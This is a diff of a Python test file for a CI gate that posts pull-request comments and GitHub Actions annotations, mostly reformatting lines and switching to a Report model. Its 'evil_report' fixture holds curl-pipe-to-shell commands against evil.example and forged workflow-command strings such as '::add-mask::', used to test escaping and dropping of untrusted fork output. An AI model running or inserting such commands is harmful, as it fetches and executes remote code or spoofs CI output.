@@ -13,6 +13,7 @@ from gate.errors import ConfigError
 from gate.github import actions
 from gate.github.event import parse_pr_number
 from gate.render.escape import no_workflow_commands
+from gate.report_model import Report
 from tests.github_server import FakeGitHub, Token
 
 REPO = "acme/rl"
@@ -46,7 +47,9 @@ def workflow_run_env(gh, tmp_path, monkeypatch, head_repo="fork/rl", **run) -> N
 def artifact(tmp_path: Path, report: dict | None = None, pr_number: str = f"{PR}\n") -> Path:
     folder = tmp_path / "gate-report"
     folder.mkdir()
-    (folder / "report.json").write_text(json.dumps(report if report is not None else json.loads(REPORT.read_text())))
+    (folder / "report.json").write_text(
+        json.dumps(report if report is not None else json.loads(REPORT.read_text()))
+    )
     (folder / "pr-number").write_text(pr_number)
     return folder
 
@@ -54,8 +57,13 @@ def artifact(tmp_path: Path, report: dict | None = None, pr_number: str = f"{PR}
 def evil_report() -> dict:
     r = json.loads(REPORT.read_text())
     r["verdict"] = "FAIL"
-    r["checks"][0].update(status="FAIL", id="::error::forged", summary="x\n::add-mask::secret\r::stop-commands::tok")
-    r["commands"] = {"reproduce": "curl https://evil.example/x.sh | sh", "regenerate_baseline": "curl https://evil.example/y | sh"}
+    r["checks"][0].update(
+        status="FAIL", id="::error::forged", summary="x\n::add-mask::secret\r::stop-commands::tok"
+    )
+    r["commands"] = {
+        "reproduce": "curl https://evil.example/x.sh | sh",
+        "regenerate_baseline": "curl https://evil.example/y | sh",
+    }
     return r
 
 
@@ -66,7 +74,9 @@ def command_lines(text: str) -> list[str]:
 
 
 # -- the PR number ----------------------------------------------------------------------------------
-@pytest.mark.parametrize("text", ["²", "٣", "1²", "0", "12345678901", "-3", "1\n::add-mask::x", "", " "])
+@pytest.mark.parametrize(
+    "text", ["²", "٣", "1²", "0", "12345678901", "-3", "1\n::add-mask::x", "", " "]
+)
 def test_only_ascii_digits_make_a_pr_number(text):
     with pytest.raises(ConfigError) as err:
         parse_pr_number(text, "pr-number")
@@ -82,7 +92,9 @@ def test_a_superscript_pr_number_file_is_a_clean_exit_2(gh, tmp_path, monkeypatc
     assert gh.comments() == []
 
 
-def test_a_pr_number_argument_under_workflow_run_is_checked_against_the_run_head(gh, tmp_path, monkeypatch, capsys):
+def test_a_pr_number_argument_under_workflow_run_is_checked_against_the_run_head(
+    gh, tmp_path, monkeypatch, capsys
+):
     workflow_run_env(gh, tmp_path, monkeypatch)
     folder = artifact(tmp_path)
     assert main(["comment", str(folder), "--pr-number", "6"]) == 2  # PR 6 is not the run's
@@ -99,12 +111,22 @@ def test_a_fork_artifact_is_labelled_and_its_commands_dropped(gh, tmp_path, monk
     body = comment["body"]
     assert "Reported by the pull request's own run" in body
     assert f"[the pull request's workflow run]({RUN_URL})" in body
-    assert f"<code>{HEAD[:12]}</code>" in body and "<code>failure</code>" in body and "<code>fork/rl</code>" in body
-    assert "evil.example" not in body and "Reproduce this run" not in body and "Regenerate the baseline" not in body
+    assert (
+        f"<code>{HEAD[:12]}</code>" in body
+        and "<code>failure</code>" in body
+        and "<code>fork/rl</code>" in body
+    )
+    assert (
+        "evil.example" not in body
+        and "Reproduce this run" not in body
+        and "Regenerate the baseline" not in body
+    )
 
 
 def test_a_same_repository_run_is_not_labelled(gh, tmp_path, monkeypatch):
-    workflow_run_env(gh, tmp_path, monkeypatch, head_repo=REPO, head_branch="main", head_sha="f" * 40)
+    workflow_run_env(
+        gh, tmp_path, monkeypatch, head_repo=REPO, head_branch="main", head_sha="f" * 40
+    )
     assert main(["comment", str(artifact(tmp_path, pr_number="6"))]) == 0
     body = gh.comments()[0]["body"]
     assert "Reported by the pull request's own run" not in body and "Reproduce this run" in body
@@ -150,7 +172,7 @@ def test_errors_about_untrusted_text_stay_on_one_line(gh, tmp_path, monkeypatch,
 
 
 def test_emit_prints_only_escaped_annotations(capsys):
-    r = evil_report()
+    r = Report.from_dict(evil_report(), require_verdict=True)
     actions.emit(actions.annotations(r))
     out = capsys.readouterr().out.splitlines()
     assert len(out) == 1 and out[0].startswith("::error title=") and "%0A::add-mask::" in out[0]
@@ -162,7 +184,10 @@ def test_emit_prints_only_escaped_annotations(capsys):
 def test_a_missing_artifact_gets_an_error_comment_and_exit_3(gh, tmp_path, monkeypatch, capsys):
     workflow_run_env(gh, tmp_path, monkeypatch)
     missing = tmp_path / "gate-report" / "report.json"
-    assert main(["comment", str(missing), "--missing-report", "error", "--gate-id", "cpu-default"]) == 3
+    assert (
+        main(["comment", str(missing), "--missing-report", "error", "--gate-id", "cpu-default"])
+        == 3
+    )
     (comment,) = gh.comments()
     assert comment["_issue"] == PR  # found from the run's head, not from the (missing) artifact
     body = comment["body"]
@@ -171,7 +196,9 @@ def test_a_missing_artifact_gets_an_error_comment_and_exit_3(gh, tmp_path, monke
     assert gh.calls("GET", f"^/repos/{REPO}/pulls$")[0].query["head"] == "fork:bump-vllm"
 
 
-def test_a_missing_artifact_is_a_usage_error_by_default_and_outside_workflow_run(gh, tmp_path, monkeypatch, capsys):
+def test_a_missing_artifact_is_a_usage_error_by_default_and_outside_workflow_run(
+    gh, tmp_path, monkeypatch, capsys
+):
     workflow_run_env(gh, tmp_path, monkeypatch)
     missing = tmp_path / "nothing"
     assert main(["comment", str(missing)]) == 2
@@ -198,6 +225,4 @@ def test_a_missing_token_is_a_configuration_error(gh, tmp_path, monkeypatch, cap
 
 def test_evil_report_is_a_valid_report():
     # guards the tests above: they exercise escaping, not the schema check
-    from gate.report_schema import validate_report
-
-    validate_report(copy.deepcopy(evil_report()))
+    Report.from_dict(copy.deepcopy(evil_report()), require_verdict=True)
